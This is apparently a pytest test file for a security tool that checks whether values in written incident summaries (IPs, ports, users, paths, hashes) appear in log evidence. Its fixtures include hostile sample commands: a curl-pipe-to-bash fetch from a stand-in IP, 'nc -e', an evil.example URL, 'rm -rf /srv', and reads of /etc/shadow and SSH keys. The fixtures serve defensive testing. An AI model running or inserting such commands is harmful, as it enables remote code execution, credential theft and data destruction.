"""What can be checked is checked, as whole values, in any spelling."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from daemon.enrichment.hard_values import HardValue, Holder, Kind, hard_values, normal

EVIDENCE = [
    "2026-11-21T09:30:00Z execve by www-data: curl -fsSL http://203.0.113.7/x.sh | bash (parent /usr/sbin/apache2, pid 4242)",
    "Failed password for root from 2001:db8:0:0:0:0:0:1 port 2222 ssh2",
    "sshd[991]: 12,345 tries uid=1000 in /usr/bin/nc.openbsd -e on web01 within 60s, 99.10% by mallory-x",
    "connection made to 203.0.113.9:8443; SHA256 " + "ab12" * 16 + "; unit cron.service; http://evil.example/p",
    "CVE-2024-6387 T1059.004 ::ffff:198.51.100.4",
]

SUPPORTED = [
    "The user www-data ran `curl` at 09:30 on 2026-11-21 from 203.0.113.7.",
    "PID 4242 and UID 1000 made 12345 tries in 60 seconds at 99.1 %.",
    "From 2001:DB8::1, port 2,222.",
    "From [2001:0db8::0001]:2222.",
    "It ran /usr/bin/nc.openbsd below /usr/bin with -e.",
    "It happened at 2026-11-21 11:30:00+02:00, that is 09:30:00 UTC.",
    "“bash” was started by 'WWW-DATA' on WEB01.",
    "It connected to port 8443 of 203.0.113.9.",
    f"The hash is {'AB12' * 16}.",
    "The unit cron.service and the host evil.example.",
    "cve-2024-6387, t1059.004 and 198.51.100.4.",
    "The user attempted it, e.g. from a shell and/or a script.",
    "The attacker's web shell made 3 attempts over IPv4.",
    "sixty seconds",
    "sshd[991] reported it.",
    "The account of mallory-x was used by the web server for access/authentication.",
    "One of two logins came over TCP/IP; read/write access was gained on/off.",
    "It listened on port twenty-two twenty-two, or 2222.",
    "sixty-second pauses, and 60 s in all",
    "The network 2001:db8::1 and 203.0.113.7.",
    "It happened at 9:30 am.",
    "The user www-data and root were used as root.",
]

UNSUPPORTED = [
    ("Port 22 was used.", "22"),
    ("It came from 203.0.113.70.", "203.0.113.70"),
    ("It came from 203.0.113.", "203.0.113"),
    ("It ran /usr/bin/nc with options.", "/usr/bin/nc"),
    ("It read /etc/shadow afterwards.", "/etc/shadow"),
    ("It read ~/.ssh/id_rsa afterwards.", "~/.ssh/id_rsa"),
    ("PID 424 did it.", "424"),
    ("There were 123 tries.", "123"),
    ("There were 12,346 tries.", "12346"),
    ("There were hundreds of tries.", "100"),
    ("There were forty of them.", "40"),
    ("It came from 2001:db8::2.", "2001:db8::2"),
    ("At 09:31 it ended.", "09:31"),
    ("On 2026-11-22 it ended.", "2026-11-22"),
    ("2026-11-21T09:30:01Z", "2026-11-21t09:30:01"),
    ("It exploited CVE-2024-6388.", "cve-2024-6388"),
    ("This is T1110.", "t1110"),
    ("The user mallory logged in.", "mallory"),
    ("An account named `alice` was used.", "alice"),
    ("On host web02 it happened.", "web02"),
    ("The unit ssh.service failed.", "ssh.service"),
    ("It contacted vil.example too.", "vil.example"),
    ("It contacted root@db01 too.", "root@db01"),
    ("It used the option --privileged on it.", "--privileged"),
    ("The hash is deadbeef01deadbeef01deadbeef0100.", "deadbeef01deadbeef01deadbeef0100"),
    ("１２３ tries", "123"),  # noqa: RUF001 - full-width digits are digits
    ("It ran 'rm -rf /srv' then.", "rm -rf /srv"),
    ("uid=0042 did it", "42"),
    ("The user account mallory logged in.", "mallory"),
    ("It was logged in as alice.", "alice"),
    ("It was opened by alice.", "alice"),
    ("The users root and alice logged in.", "alice"),
    ("It is the account of alice.", "alice"),
    ("Alice’s account was used.", "alice"),  # noqa: RUF001 - as models write it
    ("user(alice) logged in", "alice"),
    ("user=alice logged in", "alice"),
    ("User fred logged in.", "fred"),
    ("User Billy logged in.", "billy"),
    ("user аlice logged in", "аlice"),  # noqa: RUF001 - a Cyrillic a
    ("There were twenty-two failed logins.", "22"),
    ("There were forty-five failed logins.", "45"),
    ("It listened on port four four four four.", "4444"),
    ("It used port 8.", "8"),
    ("sshd[9] did it", "9"),
    ("It ended with exit code 3.", "3"),
    ("It ended with exit status seven.", "7"),
    ("It sent -9 to it.", "9"),
    ("The file etc/shadow was read.", "etc/shadow"),
    ("It wrote var/www/html/shell.", "var/www/html/shell"),
    ("user/alice did it", "user/alice"),
    ("sshd:alice did it", "alice"),
    ("The MAC de:ad:be:ef:ca:fe was seen.", "de:ad:be:ef:ca:fe"),
    ("The MAC de-ad-be-ef-ca-fe was seen.", "de-ad-be-ef-ca-fe"),
    ("The hash deadbeefcafe was seen.", "deadbeefcafe"),
    ("The address 203.0.113.7/8 was scanned.", "203.0.113.7/8"),
    ("It happened at 3 PM.", "15:"),
]


@pytest.mark.parametrize("sentence", SUPPORTED)
def test_what_the_evidence_holds_is_supported(sentence: str) -> None:
    holder = Holder(EVIDENCE)
    assert not [value.value for value in hard_values(sentence) if not holder.holds(value)]


@pytest.mark.parametrize(("sentence", "value"), UNSUPPORTED)
def test_what_the_evidence_lacks_is_not(sentence: str, value: str) -> None:
    holder = Holder(EVIDENCE)
    assert value in {one.value for one in hard_values(sentence) if not holder.holds(one)}


@pytest.mark.parametrize(
    "sentence",
    [
        "The database restarted.",
        "A shell was started by a web server.",
        "It failed 3 times.",
        "Nobody's session was open.",
    ],
)
def test_ordinary_sentences_claim_nothing_hard(sentence: str) -> None:
    assert hard_values(sentence) == set()


def test_values_of_all_kinds_are_told_apart() -> None:
    assert {value.kind for value in hard_values("203.0.113.7 at 09:30 /tmp/x 42")} == set(Kind)
    assert hard_values("42") == {HardValue(Kind.number, "42")}


def test_nothing_is_held_by_no_text() -> None:
    assert not Holder([]).holds(HardValue(Kind.text, "x"))


@given(st.text(st.characters(exclude_categories=[])))
def test_any_text_holds_its_own_values_or_gives_none(text: str) -> None:
    assert normal(text) is not None
    for value in hard_values(text):
        assert value.value


@given(st.ip_addresses(), st.integers(10, 65535))
def test_addresses_and_ports_are_found_in_every_spelling(address: object, port: int) -> None:
    spelt = f"[{address}]" if ":" in str(address) else str(address)
    exploded = address.exploded  # type: ignore[attr-defined]
    holder = Holder([f"from {spelt}:{port} to x"])
    said = hard_values(f"{exploded} used port {port}.")
    assert len(said) >= 2
    assert all(holder.holds(value) for value in said)


def test_a_network_is_held_as_it_is_written() -> None:
    holder = Holder(["scan of 203.0.113.0/24"])
    assert all(holder.holds(value) for value in hard_values("The network 203.0.113.0/24 was scanned."))
    assert not all(holder.holds(value) for value in hard_values("The network 203.0.113.0/25 was scanned."))


def test_single_digits_are_held_by_evidence_that_has_them() -> None:
    holder = Holder(["sshd[9]: exit code 3, uid=0"])
    assert all(holder.holds(value) for value in hard_values("sshd[9] ended with exit code 3 as uid zero."))


@given(st.integers(10, 10**9), st.integers(10, 10**9))
def test_numbers_are_equal_only_to_themselves(one: int, two: int) -> None:
    holder = Holder([f"count = {one:,}"])
    assert all(holder.holds(value) for value in hard_values(f"There were {one}."))
    if one != two:
        assert not all(holder.holds(value) for value in hard_values(f"There were {two}."))
